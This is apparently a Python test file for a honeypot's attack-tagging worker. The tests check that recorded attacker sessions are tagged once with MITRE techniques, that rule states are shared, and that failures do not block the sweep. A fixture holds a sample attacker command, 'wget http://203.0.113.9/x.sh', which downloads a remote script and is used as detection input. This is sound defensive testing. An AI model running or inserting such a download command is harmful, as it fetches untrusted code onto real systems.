"""The worker over a real SQLite database: tags once, news only for new tags, states of other processes."""

from __future__ import annotations

import asyncio

from decnet.bus.base import Event
from decnet.bus.null import NullBus
from decnet.config import load_settings
from decnet.db.repository import BaseRepository
from decnet.runtime.worker import Transaction
from decnet.ttp.factory import CompositeTagger
from decnet.ttp.rules import RuleState
from decnet.ttp.store.factory import get_rule_store
from decnet.ttp.worker import TtpWorker
from tests.wirekit import pieces, taken

PAYLOAD = {
    "session_id": "s1",
    "attacker_ip": "203.0.113.1",
    "decky_id": "d",
    "ended_at": 2.0,
    "commands": [{"id": "c1", "command_text": "wget http://203.0.113.9/x.sh", "ts": 1.0}],
}


async def test_redelivery_tags_once_and_states_are_shared(tmp_path):
    url = f"sqlite:///{tmp_path / 'd.sqlite'}"
    repo = await BaseRepository.open(url)
    try:
        settings = load_settings(data_dir=tmp_path)
        store = get_rule_store(settings, repo=repo)
        worker = TtpWorker(store, settings)
        for engine in worker.tagger.iter_watchables():
            await engine.load()
        assert worker.health()["rules_loaded"] > 0
        event = Event("attacker.session.ended", PAYLOAD)
        topics = []
        for _ in range(2):
            async with repo.transaction() as bound:
                tx = Transaction(bound)
                await worker.handle(taken([event]), tx)
                topics.append([e.topic for e in pieces(tx.bus.events, ">")])
        assert "ttp.rule.fired.T1105" in topics[0]
        assert topics[1] == []
        other = get_rule_store(settings, repo=repo)
        await other.set_state("R0002", RuleState("disabled", reason="test"))
        await store.tail()
        assert store.states()["R0002"].state == "disabled"
        assert (await store.get_state("R0002")).state == "disabled"
        assert (await store.get_state("unknown")).state == "enabled"
    finally:
        await repo.close()


async def stored_session(repo: BaseRepository, session: str, commands: list[dict]) -> None:
    payload = {**PAYLOAD, "session_id": session, "attacker_uuid": "a1", "started_at": 1.0, "ended_at": 9.0}
    async with repo.transaction() as bound:  # as the recorder does: nobody sees the one without the other
        await bound.upsert_session({**payload, "commands": [], "end_reason": "closed"})
        await bound.insert_commands(session, commands)


async def until(condition, seconds: float = 30.0) -> None:
    async with asyncio.timeout(seconds):
        while not await condition():
            await asyncio.sleep(0.02)


async def test_without_a_bus_stored_sessions_are_tagged_all_the_same(tmp_path):
    """At the start at once, later at every poll; the news waits in the outbox."""
    repo = await BaseRepository.open(f"sqlite:///{tmp_path / 'd.sqlite'}")
    settings = load_settings(data_dir=tmp_path)
    settings = settings.model_copy(
        update={"runtime": settings.runtime.model_copy(update={"poll_interval_s": 0.1})}
    )
    bus = NullBus()
    worker = TtpWorker(get_rule_store(settings, repo=repo), settings)
    await stored_session(repo, "s1", PAYLOAD["commands"])
    try:
        assert not bus.connected
        await worker.start(repo, bus)
        await worker.sweep.sweep(repo)
        assert {t["technique_id"] for t in await repo.list_tags()} >= {"T1105"}
        assert await repo.outbox_count() > 0
        poll = asyncio.create_task(worker.sweep.run())
        await asyncio.wait_for(worker.sweep.swept.wait(), 30)
        await stored_session(repo, "s2", [{"id": "c2", "command_text": "crontab -l", "ts": 2.0}])

        async def tagged() -> bool:
            return any(t["session_id"] == "s2" for t in await repo.list_tags())

        await until(tagged)
        poll.cancel()
    finally:
        await repo.close()


async def test_a_session_that_cannot_be_tagged_does_not_hold_up_the_sweep(tmp_path):
    repo = await BaseRepository.open(f"sqlite:///{tmp_path / 'd.sqlite'}")
    worker = TtpWorker(None, load_settings(data_dir=tmp_path), CompositeTagger())
    for name in ("s1", "bad", "s3"):
        await stored_session(repo, name, [])
    handle = worker.sweep.handle

    async def fails_on_bad(batch, tx) -> None:
        assert "bad" not in {one.event.payload["session_id"] for one in batch}
        await handle(batch, tx)

    worker.sweep.handle = fails_on_bad
    try:
        assert await worker.sweep.sweep(repo) == 3
        assert [row["session_id"] for row in await repo.untagged_sessions(9)] == ["bad"]
    finally:
        await repo.close()
